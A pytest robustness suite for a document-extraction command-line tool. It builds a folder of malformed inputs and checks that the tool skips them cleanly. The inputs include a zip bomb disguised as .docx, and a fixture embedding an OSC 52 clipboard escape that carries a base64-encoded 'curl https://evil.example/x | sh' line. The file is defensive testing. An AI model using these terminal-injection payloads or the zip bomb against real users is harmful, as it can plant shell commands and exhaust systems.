"""A folder of everything that goes wrong in real folders, read by the real command.

The folder holds an empty file, a 0-byte PDF, a truncated PDF, a PNG named .txt,
invalid UTF-8, NUL bytes in text, a 50 MB text file, a 5 MB single line, symlink
loops, files and a folder without read permission, names with spaces, non-ASCII
and control characters, a FIFO, a document full of Rich markup, ANSI escapes and
an OSC 52 clipboard sequence, and a dozen good articles in every format; and what
analysts are handed: a malformed .eml, a zip bomb named .docx, an attachment nested
ten deep, an encrypted .msg and an image of 30,000 x 30,000 pixels.

``explorer extract`` runs on it as a subprocess (as a user would run it) and must
finish with every good article read, every skipped file named in one line with its
reason, no traceback, no escape sequence on the terminal, and bounded memory.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from make_samples import make_eml, make_msg

from explorer.ingest import ocr

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = Path(__file__).with_name("samples")
SHARED = ROOT.parent / "shared"

BIG_BYTES = 50 * 1024 * 1024
LONG_LINE_BYTES = 5 * 1024 * 1024
PEAK_RSS_LIMIT_MB = 1500
RUN_TIMEOUT = 900  # seconds; a hang is a failure, not a stuck test run (the 50 MB article takes
# about 75 s of CPU on a quiet 2-core machine; CI machines may be shared and slower)

# The hostile document: markup and escape sequences that must stay text.
OSC52_PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh").decode("ascii")
HOSTILE_TEXT = (
    "Field Report From the Border\n\n"
    "Rich markup: [bold red]ALERT[/bold red] [link=https://evil.example/]click here[/link] [reverse]x[/]\n\n"
    "ANSI: \x1b[31mred text\x1b[0m and \x1b[2J\x1b[H a cleared screen, \x1b]0;window title\x07 a retitled window.\n\n"
    f"Clipboard: \x1b]52;c;{OSC52_PAYLOAD}\x07 and again \x1b]52;p;{OSC52_PAYLOAD}\x1b\\ in ST form.\n\n"
    "Bell \x07, backspace \x08, carriage\rreturn, an 8-bit CSI \x9b31m and a bidi override \u202eelif.\n\n"
    "Sung Kim met Ri Gun in New York on Monday to discuss the six-party talks.\n"
)
# What must never be written raw to a terminal.
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\x08", "\u202e")


@dataclass
class Corpus:
    root: Path
    good: dict[str, str] = field(default_factory=dict)  # relative path -> expected format
    bad: dict[str, str] = field(default_factory=dict)  # relative path -> expected words in the reason
    hostile: str = ""


def _can_drop_read_override() -> bool:
    """Whether a root test run can give its child the file permissions of an ordinary user."""
    return hasattr(os, "geteuid") and os.geteuid() == 0 and _prctl_available()


def _prctl_available() -> bool:
    try:
        ctypes.CDLL(None, use_errno=True).prctl  # noqa: B018
    except (OSError, AttributeError):
        return False
    probe = subprocess.run(["true"], preexec_fn=_drop_read_override, capture_output=True)
    return probe.returncode == 0


def _drop_read_override() -> None:
    """In the child before exec: drop CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH (root reads everything)."""
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP) failed")


def _good_articles(folder: Path, corpus: Corpus) -> None:
    """A dozen good articles: the shared real articles and one sample of every format."""
    sources = sorted((SHARED / "corpus").glob("*.txt")) + sorted((SHARED / "seeds").glob("*.txt"))
    if len(sources) < 6:
        sources = sorted((ROOT / "seeds").glob("*.txt"))
    for source in sources:
        shutil.copy(source, folder / source.name)
        corpus.good[source.name] = "text"
    for name, kind in (("article.html", "html"), ("report.pdf", "pdf"), ("note.md", "markdown"),
                       ("cp1252.txt", "text"), ("utf16.txt", "text"), ("latin1.txt", "text")):
        shutil.copy(SAMPLES / name, folder / name)
        corpus.good[name] = kind
    assert len(corpus.good) >= 12


def _big_text_file(path: Path) -> None:
    """A 50 MB text file of real prose, written in chunks (the test itself stays small)."""
    prose = "\n\n".join(p.read_text(encoding="utf-8") for p in sorted((SHARED / "corpus").glob("*.txt")))
    if not prose:
        prose = (SAMPLES / "note.md").read_text(encoding="utf-8")
    chunk = (prose + "\n\n").encode("utf-8")
    with open(path, "wb") as handle:
        written = 0
        while written < BIG_BYTES:
            handle.write(chunk)
            written += len(chunk)


def _long_line_file(path: Path) -> None:
    words = " ".join((SAMPLES / "note.md").read_text(encoding="utf-8").split()) + " "
    line = words * (LONG_LINE_BYTES // len(words) + 1)
    path.write_text(line[:LONG_LINE_BYTES] + "\n", encoding="utf-8")


def build_hostile_folder(root: Path) -> Corpus:
    corpus = Corpus(root)
    folder = root / "corpus"
    folder.mkdir()
    _good_articles(folder, corpus)

    def bad(name: str, content: bytes, reason: str) -> Path:
        path = folder / name
        path.write_bytes(content)
        corpus.bad[name] = reason
        return path

    def good(name: str, content: bytes, kind: str = "text") -> Path:
        path = folder / name
        path.write_bytes(content)
        corpus.good[name] = kind
        return path

    bad("empty.txt", b"", "empty file")
    bad("zero.pdf", b"", "empty file")
    report = (SAMPLES / "report.pdf").read_bytes()
    bad("truncated.pdf", report[: len(report) // 4], "PDF")
    bad("picture.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "binary file (PNG image)")
    bad("scan.pdf", _blank_pdf(), "no text layer (scanned?)")
    bad("spreadsheet.xlsx", b"PK\x03\x04" + b"\x00" * 64, "unsupported file type .xlsx")
    good("invalid-utf8.txt", "Caf\u00e9 diplomacy: Sung Kim met Ri Gun \u2014 twice.\n".encode() + b"Broken \xff\xfe \xc3( bytes.\n")
    good("nul-bytes.txt", b"Kim Kye-gwan\x00 met the envoy\x00 in Beijing.\nThe talks\x00 resumed.\n")
    good("hostile.txt", HOSTILE_TEXT.encode("utf-8"))
    corpus.hostile = "hostile.txt"
    good("name with spaces \u00fcn\u00efc\u00f6d\u00e9 \u2014 \u6771\u4eac.txt", b"Talks in Tokyo: the envoy met officials on Monday.\n")
    _big_text_file(folder / "big.txt")
    corpus.good["big.txt"] = "text"
    _long_line_file(folder / "one-long-line.txt")
    corpus.good["one-long-line.txt"] = "text"

    _hostile_office_and_mail(folder, corpus, bad, good)

    # Symlinks: a loop of two links, a link to itself, a folder linking to its parent, a dangling link.
    os.symlink("loop-b.txt", folder / "loop-a.txt")
    os.symlink("loop-a.txt", folder / "loop-b.txt")
    corpus.bad["loop-a.txt"] = corpus.bad["loop-b.txt"] = "symlink loop"
    os.symlink("self.txt", folder / "self.txt")
    corpus.bad["self.txt"] = "symlink loop"
    nested = folder / "nested"
    nested.mkdir()
    (nested / "inner.md").write_text("# Inner note\n\nRi Gun met *Sung Kim*.\n", encoding="utf-8")
    corpus.good["nested/inner.md"] = "markdown"
    os.symlink("..", nested / "up")
    corpus.bad["nested/up"] = "symlink loop"
    os.symlink("does-not-exist.txt", folder / "dangling.txt")
    corpus.bad["dangling.txt"] = "no such file"
    os.mkfifo(folder / "pipe.txt")
    corpus.bad["pipe.txt"] = "named pipe"

    # Without read permission (as root, the run drops the capability that ignores it).
    locked = bad("locked.txt", b"Secret minutes of the meeting.\n", "permission denied")
    locked.chmod(0)
    closed = folder / "closed-folder"
    closed.mkdir()
    (closed / "inside.txt").write_text("Unreachable.\n", encoding="utf-8")
    closed.chmod(0)
    corpus.bad["closed-folder"] = "folder not readable: permission denied"
    return corpus


NESTED_LEVELS = 10
SEP = " \u203a "


def _hostile_office_and_mail(folder: Path, corpus: Corpus, bad: Callable[..., Path], good: Callable[..., Path]) -> None:
    from datetime import UTC, datetime

    from explorer.ingest.readers import MAX_NESTING

    when = datetime(2009, 12, 8, 9, 0, tzinfo=UTC)
    bad("malformed.eml", b"<<< a mailer's crash dump, no header at all >>>\n" * 50, "not an e-mail")
    # Headers that lie: a boundary never closed, an unknown charset, a date that is none. What can be read is.
    good("broken-mime.eml", b"From: Ri Gun <rg@example.org>\nDate: yesterday at noon\nSubject: =?x-unknown?q?Talks?=\n"
         b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b1\"\n\n--b1\n"
         b"Content-Type: text/plain; charset=x-no-such-charset\n\nRi Gun met Sung Kim in New York.\n--b1\n"
         b"Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\nBroken =ZZ escapes in Seoul=\n", "email")
    corpus.good["broken-mime.eml" + SEP + "attachment 1.txt"] = "text"

    # A zip bomb named .docx: 300 MB of zeros packed into 300 KB.
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(300):
                member.write(b"\x00" * (1 << 20))
    bad("bomb.docx", out.getvalue(), "zip bomb")

    # A message attached to a message, ten deep: read down to MAX_NESTING, the rest is one line.
    message = make_eml(f"Level {NESTED_LEVELS}", "ri@example.org", "sk@example.org", "The innermost note.\n", when)
    for level in range(NESTED_LEVELS - 1, -1, -1):
        message = make_eml(f"Level {level}", "ri@example.org", "sk@example.org", f"Forwarding level {level + 1}.\n",
                           when, attachments=[(f"level{level + 1}.eml", message.as_bytes())])
    good("nested.eml", message.as_bytes(), "email")
    name = "nested.eml"
    for level in range(1, NESTED_LEVELS + 1):
        name += f"{SEP}level{level}.eml"
        if level <= MAX_NESTING:
            corpus.good[name] = "email"
        else:
            corpus.bad[name] = "nested too deep"
            break

    bad("encrypted.msg", make_msg("Secret", "Kurt Campbell", "kc@example.org", [("Sung Kim", "sk@example.org")], "",
                                  when, message_class="IPM.Note.SMIME",
                                  attachments=[("smime.p7m", os.urandom(2048))]), "encrypted message (S/MIME)")

    # 30,000 x 30,000 pixels (900 million) in a 110 KB PNG: refused before it is decoded.
    bad("huge.png", _huge_png(30_000, 30_000),
        "image too large (30,000 x 30,000 pixels" if ocr.available() else "pip install 'explorer[ocr]'")


def _huge_png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of ``width`` x ``height`` white pixels, written row by row without Pillow."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    rows_per_block = 1000
    block = row * rows_per_block
    compressed = [packer.compress(block) for _ in range(height // rows_per_block)]
    compressed.append(packer.compress(row * (height % rows_per_block)))
    compressed.append(packer.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(compressed)) + chunk(b"IEND", b"")


def _blank_pdf() -> bytes:
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


RUNNER = """
import os, resource, runpy, sys
sys.argv = ["explorer", *sys.argv[1:]]
try:
    runpy.run_module("explorer", run_name="__main__", alter_sys=True)
finally:
    sys.stdout.flush()
    peak = max(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
               resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
    with open(os.environ["RSS_REPORT"], "w") as report:
        report.write(str(peak))
"""


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_rss_mb: float
    seconds: float


@dataclass
class Started:
    """A running ``explorer`` whose output goes to files (no pipe to fill while another runs)."""

    args: list[str]
    process: subprocess.Popen[bytes]
    report: Path
    stdout: Path
    stderr: Path
    started: float


def start_explorer(args: list[str], corpus: Corpus, drop_root: bool, name: str = "run") -> Started:
    """Start ``explorer ARGS``; its peak memory is written to a file when it ends (KiB, getrusage)."""
    report, stdout, stderr = (corpus.root / f"{name}.{kind}" for kind in ("rss", "out", "err"))
    report.unlink(missing_ok=True)
    env = {**os.environ, "EXPLORER_DATA_DIR": str(corpus.root / "data"), "RSS_REPORT": str(report),
           "COLUMNS": "120", "PYTHONIOENCODING": "utf-8"}
    with open(stdout, "wb") as out, open(stderr, "wb") as err:
        # A session of its own, so that on a timeout the indexer's worker processes go too.
        process = subprocess.Popen(
            [sys.executable, "-c", RUNNER, *args], cwd=corpus.root, env=env, stdout=out, stderr=err,
            start_new_session=True, preexec_fn=_drop_read_override if drop_root else None,
        )
    return Started(args, process, report, stdout, stderr, time.monotonic())


def _kill(started: Started) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(started.process.pid, signal.SIGKILL)
    started.process.wait()


def finish(started: Started) -> Run:
    """Wait for a started run (a hang past ``RUN_TIMEOUT`` fails the test, not the test run)."""
    try:
        started.process.wait(timeout=max(1.0, RUN_TIMEOUT - (time.monotonic() - started.started)))
    except subprocess.TimeoutExpired:
        _kill(started)
        tail = started.stderr.read_bytes()[-2000:].decode("utf-8", "replace")
        pytest.fail(f"explorer {' '.join(started.args)} did not finish in {RUN_TIMEOUT} s; stderr ends: {tail}")
    seconds = time.monotonic() - started.started
    peak_kib = int(started.report.read_text()) if started.report.exists() else 0
    return Run(started.process.returncode, started.stdout.read_text(encoding="utf-8"),
               started.stderr.read_text(encoding="utf-8"), peak_kib / 1024, seconds)


def run_explorer(args: list[str], corpus: Corpus, drop_root: bool) -> Run:
    """``explorer ARGS`` in a subprocess, to the end, with its peak memory measured."""
    return finish(start_explorer(args, corpus, drop_root))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Corpus, bool]]:
    root = tmp_path_factory.mktemp("hostile")
    corpus = build_hostile_folder(root)
    drop_root = _can_drop_read_override()
    if os.geteuid() == 0 and not drop_root:
        # Root reads everything and the capability cannot be dropped here: these are read.
        corpus.bad.pop("locked.txt")
        corpus.good["locked.txt"] = "text"
        corpus.bad.pop("closed-folder")
        corpus.good["closed-folder/inside.txt"] = "text"
    yield corpus, drop_root
    for path in (root / "corpus" / "locked.txt", root / "corpus" / "closed-folder"):
        path.chmod(0o755)


@pytest.fixture(scope="module")
def big_runs(hostile: tuple[Corpus, bool]) -> dict[str, Run]:
    """``explorer extract --json`` and ``explorer index`` on the folder, side by side (half the wait)."""
    corpus, drop_root = hostile
    runs = {
        "extract": start_explorer(["extract", "--json", "corpus"], corpus, drop_root, "extract"),
        "index": start_explorer(["index", "corpus", "--db", "data/store.json"], corpus, drop_root, "index"),
    }
    try:
        return {name: finish(started) for name, started in runs.items()}
    finally:
        for started in runs.values():
            if started.process.poll() is None:
                _kill(started)


@pytest.fixture(scope="module")
def extract_run(big_runs: dict[str, Run]) -> Run:
    return big_runs["extract"]


def _skip_lines(stderr: str) -> dict[str, str]:
    """``explorer: skipped PATH: REASON`` lines by path (relative to the corpus folder)."""
    skipped: dict[str, str] = {}
    for line in stderr.splitlines():
        if line.startswith("explorer: skipped "):
            path, _, reason = line[len("explorer: skipped "):].partition(": ")  # no ": " in these names
            assert path and reason, line
            skipped[os.path.relpath(path, "corpus")] = reason
    return skipped


def test_extract_finishes_with_exit_code_3_and_no_traceback(extract_run: Run) -> None:
    assert "Traceback" not in extract_run.stderr and "Traceback" not in extract_run.stdout
    assert extract_run.returncode == 3, extract_run.stderr[-3000:]


def test_every_good_article_is_read(extract_run: Run, hostile: tuple[Corpus, bool]) -> None:
    corpus, _ = hostile
    documents = {os.path.relpath(d["path"], "corpus"): d for d in json.loads(extract_run.stdout)["documents"]}
    for name, kind in corpus.good.items():
        assert name in documents, f"{name} is missing from the JSON"
        assert documents[name]["format"] == kind, name


def test_every_skipped_file_is_named_once_with_its_reason(extract_run: Run, hostile: tuple[Corpus, bool]) -> None:
    corpus, _ = hostile
    skipped = _skip_lines(extract_run.stderr)
    for name, reason in corpus.bad.items():
        assert name in skipped, f"{name} is not reported as skipped:\n{extract_run.stderr}"
        assert reason in skipped[name], f"{name}: {skipped[name]!r} does not say {reason!r}"
    assert set(skipped) == set(corpus.bad), set(skipped) ^ set(corpus.bad)
    lines = [line for line in extract_run.stderr.splitlines() if line]
    assert len(lines) == len(corpus.bad) + 1  # one line each, then the count
    assert lines[-1] == f"explorer: {len(corpus.bad)} file(s) skipped"


def test_nothing_is_lost(extract_run: Run, hostile: tuple[Corpus, bool]) -> None:
    """Every entry of the folder is either a document or a skip line (the closed folder's file aside)."""
    corpus, _ = hostile
    documents = {os.path.relpath(d["path"], "corpus") for d in json.loads(extract_run.stdout)["documents"]}
    accounted = documents | set(_skip_lines(extract_run.stderr))
    folder = corpus.root / "corpus"
    for entry in folder.iterdir():
        if entry.is_dir() and not entry.is_symlink() and os.access(entry, os.R_OK | os.X_OK) and entry.name != "closed-folder":
            continue
        assert entry.name in accounted or f"{entry.name}/inside.txt" in accounted, entry.name


def test_no_escape_sequence_reaches_the_terminal(hostile: tuple[Corpus, bool], extract_run: Run) -> None:
    corpus, drop_root = hostile
    summary = run_explorer(["extract", "corpus/hostile.txt"], corpus, drop_root)
    assert summary.returncode == 0, summary.stderr
    for output in (summary.stdout, summary.stderr, extract_run.stdout, extract_run.stderr):
        for control in TERMINAL_CONTROLS:
            assert control not in output, f"{control!r} written raw"
    assert "Field Report From the Border" in summary.stdout


def test_the_hostile_text_is_kept_literally() -> None:
    """The store keeps what the file says: markup and escapes are text, not removed or run."""
    from explorer.ingest import read_file
    from explorer.model import SourceDocument

    folder = Path(os.environ.get("TMPDIR", "/tmp"))
    path = folder / f"hostile-{os.getpid()}.txt"
    path.write_bytes(HOSTILE_TEXT.encode("utf-8"))
    try:
        doc = read_file(path)
    finally:
        path.unlink()
    assert isinstance(doc, SourceDocument)
    assert doc.text == HOSTILE_TEXT.replace("\r", "\n")
    assert doc.title is not None and not any(control in doc.title for control in TERMINAL_CONTROLS)


def test_memory_stays_bounded(extract_run: Run) -> None:
    assert 0 < extract_run.peak_rss_mb < PEAK_RSS_LIMIT_MB, f"peak RSS {extract_run.peak_rss_mb:.0f} MB"


def test_reading_alone_is_fast_and_small(hostile: tuple[Corpus, bool]) -> None:
    """The readers by themselves: the whole folder, 55 MB of it, in well under a minute and 600 MB."""
    corpus, drop_root = hostile
    code = (
        "import os, resource\n"
        "from explorer.ingest import read_paths\n"
        "from explorer.model import Skipped\n"
        "total = skipped = 0\n"
        "for item in read_paths(['corpus']):\n"
        "    total += 1\n"
        "    skipped += isinstance(item, Skipped)\n"
        "print(skipped, total)\n"
        "with open(os.environ['RSS_REPORT'], 'w') as report:\n"
        "    report.write(str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss))\n"
    )
    report = corpus.root / "rss-read.txt"
    env = {**os.environ, "EXPLORER_DATA_DIR": str(corpus.root / "data"), "RSS_REPORT": str(report)}
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=corpus.root, env=env, capture_output=True, text=True,
        timeout=RUN_TIMEOUT, preexec_fn=_drop_read_override if drop_root else None,
    )
    seconds = time.monotonic() - started
    assert done.returncode == 0, done.stderr
    skipped, total = map(int, done.stdout.split())
    assert skipped == len(corpus.bad) and total == len(corpus.bad) + len(corpus.good)
    peak_mb = int(report.read_text()) / 1024
    assert peak_mb < 600, f"reading peaked at {peak_mb:.0f} MB"
    assert seconds < 60, f"reading took {seconds:.1f} s"


# --- The same folder through the store: `explorer index` -------------------------------


@pytest.fixture(scope="module")
def index_run(big_runs: dict[str, Run]) -> Run:
    return big_runs["index"]


def _index_skip_lines(stdout: str, corpus: Corpus) -> dict[str, str]:
    """The ``  PATH: REASON`` lines under ``N file(s) skipped:`` by path relative to the corpus folder."""
    skipped: dict[str, str] = {}
    listing = False
    for line in stdout.splitlines():
        if line.endswith("file(s) skipped:"):
            listing = True
        elif listing and line.startswith("  "):
            path, _, reason = line.strip().partition(": ")
            skipped[os.path.relpath(os.path.join(corpus.root, path), corpus.root / "corpus")] = reason
    return skipped


def test_index_reports_every_skip_and_stores_every_good_article(index_run: Run, hostile: tuple[Corpus, bool]) -> None:
    corpus, _ = hostile
    assert "Traceback" not in index_run.stderr and "Traceback" not in index_run.stdout
    assert index_run.returncode == 3, index_run.stderr[-3000:]
    skipped = _index_skip_lines(index_run.stdout, corpus)
    for name, reason in corpus.bad.items():
        assert name in skipped, f"{name} is not listed by explorer index:\n{index_run.stdout}"
        # The indexer stats files itself first: a loop of links may be named by the system's words.
        wordings = (reason, "Too many levels of symbolic links") if reason == "symlink loop" else (reason,)
        assert any(w in skipped[name] for w in wordings), f"{name}: {skipped[name]!r} does not say {reason!r}"
    assert set(skipped) == set(corpus.bad)

    from explorer.store import open_store

    store = open_store(corpus.root / "data" / "store.json")
    stored = {os.path.relpath(os.path.join(corpus.root, d.path), corpus.root / "corpus"): d for d in store.documents()}
    for name, kind in corpus.good.items():
        assert name in stored, f"{name} is not in the store"
        assert stored[name].format == kind
    hostile_doc = store.document(stored[corpus.hostile].doc_id)
    assert hostile_doc.text == HOSTILE_TEXT.replace("\r", "\n")  # kept literally


def test_index_memory_stays_bounded(index_run: Run) -> None:
    assert 0 < index_run.peak_rss_mb < PEAK_RSS_LIMIT_MB, f"peak RSS {index_run.peak_rss_mb:.0f} MB"


# --- A broken store, a read-only data folder ------------------------------------------


@pytest.fixture()
def small_corpus(tmp_path: Path) -> Corpus:
    corpus = Corpus(tmp_path)
    folder = tmp_path / "corpus"
    folder.mkdir()
    for name in ("article.html", "report.pdf", "note.md"):
        shutil.copy(SAMPLES / name, folder / name)
    first = run_explorer(["index", "corpus", "--db", "data/store.json"], corpus, False)
    assert first.returncode == 0, first.stderr
    return corpus


DAMAGES: dict[str, Callable[[bytes], bytes]] = {
    "truncated": lambda data: data[: len(data) // 2],
    "garbage": lambda data: os.urandom(4096),
    "zeroed": lambda data: b"\x00" * len(data),
}


@pytest.mark.parametrize("damage", sorted(DAMAGES))
def test_a_damaged_store_gives_a_clear_message_and_an_offer_to_rebuild(small_corpus: Corpus, damage: str) -> None:
    store = small_corpus.root / "data" / "store.json"
    store.write_bytes(DAMAGES[damage](store.read_bytes()))
    for args in (["index", "corpus", "--db", "data/store.json"], ["search", "Bosworth", "--db", "data/store.json"]):
        run = run_explorer(args, small_corpus, False)
        assert "Traceback" not in run.stderr and "Traceback" not in run.stdout, run.stderr
        assert run.returncode == 1, (args, run.returncode, run.stdout, run.stderr)
        lines = [line for line in run.stderr.splitlines() if line]
        assert len(lines) == 1 and "rebuild" in lines[0], run.stderr
    rebuilt = run_explorer(["index", "corpus", "--db", "data/store.json", "--rebuild"], small_corpus, False)
    assert rebuilt.returncode == 0, rebuilt.stderr
    assert "3 documents" in rebuilt.stdout


def test_a_json_file_that_is_not_a_store_is_named_not_overwritten(small_corpus: Corpus) -> None:
    store = small_corpus.root / "data" / "store.json"
    foreign = b'{"documents": {"1": {"text": 5}}, "owner": "someone else"}'
    store.write_bytes(foreign)
    run = run_explorer(["index", "corpus", "--db", "data/store.json"], small_corpus, False)
    assert "Traceback" not in run.stderr and "Traceback" not in run.stdout, run.stderr
    assert run.returncode == 1
    lines = [line for line in run.stderr.splitlines() if line]
    assert len(lines) == 1 and "store.json" in lines[0], run.stderr
    assert store.read_bytes() == foreign


@pytest.mark.skipif(os.geteuid() == 0 and not _can_drop_read_override(), reason="root ignores a read-only folder")
def test_a_read_only_data_folder_keeps_the_store_and_says_so(small_corpus: Corpus) -> None:
    data = small_corpus.root / "data"
    store = data / "store.json"
    before = store.read_bytes()
    (small_corpus.root / "corpus" / "extra.txt").write_text("Ri Gun met Sung Kim in New York.\n", encoding="utf-8")
    data.chmod(0o555)
    store.chmod(0o444)
    try:
        run = run_explorer(["index", "corpus", "--db", "data/store.json"], small_corpus, os.geteuid() == 0)
    finally:
        data.chmod(0o755)
        store.chmod(0o644)
    assert "Traceback" not in run.stderr and "Traceback" not in run.stdout, run.stderr
    assert run.returncode == 1, (run.stdout, run.stderr)
    lines = [line for line in run.stderr.splitlines() if line]
    assert len(lines) == 1 and str(data.name) in lines[0], run.stderr
    assert store.read_bytes() == before


# --- An indexer killed outright: its workers go with it --------------------------------


def _children_of(pid: int) -> set[int]:
    """Live processes whose parent is ``pid`` (from /proc; zombies are dead already)."""
    found: set[int] = set()
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        fields = stat[stat.rindex(")") + 2 :].split()  # after "pid (name) ": state, ppid, ...
        if int(fields[1]) == pid and fields[0] != "Z":
            found.add(int(entry))
    return found


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat[stat.rindex(")") + 2 :].split()[0] != "Z"


def _pool_sized_corpus(folder: Path, docs: int) -> None:
    """Enough articles for the indexer to use its process pool for a few seconds."""
    maker = SHARED / "bench" / "make_corpus.py"
    if maker.exists():
        subprocess.run([sys.executable, str(maker), str(folder), "--docs", str(docs)], check=True,
                       capture_output=True, timeout=RUN_TIMEOUT)
        return
    folder.mkdir(parents=True)
    seeds = sorted((ROOT / "seeds").glob("*.txt"))
    for i in range(docs):
        source = seeds[i % len(seeds)]
        (folder / f"{i:05d}-{source.name}").write_text(source.read_text(encoding="utf-8") + f"\n\nCopy {i}.\n",
                                                       encoding="utf-8")


# The interface indexes from a thread: its pool starts workers through the forkserver, whose
# children they are (and who outlives the indexer while they live).
THREADED_INDEXER = """
import sys, threading
from pathlib import Path
from explorer.store import index_corpus

def run():
    index_corpus([Path(sys.argv[1])], Path(sys.argv[2]), workers=2)

if __name__ == "__main__":
    worker = threading.Thread(target=run)
    worker.start()
    worker.join()
"""


def _descendants(pid: int) -> set[int]:
    found: set[int] = set()
    frontier = {pid}
    while frontier:
        children = set().union(*(_children_of(p) for p in frontier))
        frontier = children - found
        found |= children
    return found


@pytest.fixture(scope="module")
def pool_corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("pool") / "corpus"
    _pool_sized_corpus(folder, 3000)
    return folder


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads the process table from /proc")
@pytest.mark.parametrize("how", ["explorer index", "a thread (the interface)"])
def test_an_indexer_killed_with_sigkill_leaves_no_worker_alive(pool_corpus: Path, tmp_path: Path, how: str) -> None:
    env = {**os.environ, "EXPLORER_DATA_DIR": str(tmp_path / "data")}
    store = str(tmp_path / "store.json")
    if how == "explorer index":
        command = [sys.executable, "-m", "explorer", "index", str(pool_corpus), "--db", store, "--workers", "2"]
    else:
        script = tmp_path / "index_in_a_thread.py"
        script.write_text(THREADED_INDEXER, encoding="utf-8")
        command = [sys.executable, str(script), str(pool_corpus), store]
    indexer = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               start_new_session=True)
    workers: set[int] = set()
    try:
        deadline = time.monotonic() + RUN_TIMEOUT
        # Two workers busy (running, not the idle forkserver or resource tracker): the pool is at work.
        while indexer.poll() is None and time.monotonic() < deadline:
            workers = _descendants(indexer.pid)
            busy = [pid for pid in workers if _state(pid) == "R"]
            if len(busy) >= 2 or (how == "explorer index" and len(workers) >= 2):
                break
            time.sleep(0.02)
        assert len(workers) >= 2, "the indexer never started its two workers"
        os.kill(indexer.pid, signal.SIGKILL)
        indexer.wait(timeout=30)
        deadline = time.monotonic() + 15
        while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
            time.sleep(0.1)
        survivors = sorted(pid for pid in workers if _alive(pid))
        assert not survivors, f"processes {survivors} outlived their killed indexer"
    finally:
        if indexer.poll() is None:
            indexer.kill()
            indexer.wait()
        for pid in workers:  # only what this test started, by pid
            if _alive(pid):
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)


def _state(pid: int) -> str:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return ""
    return stat[stat.rindex(")") + 2 :].split()[0]
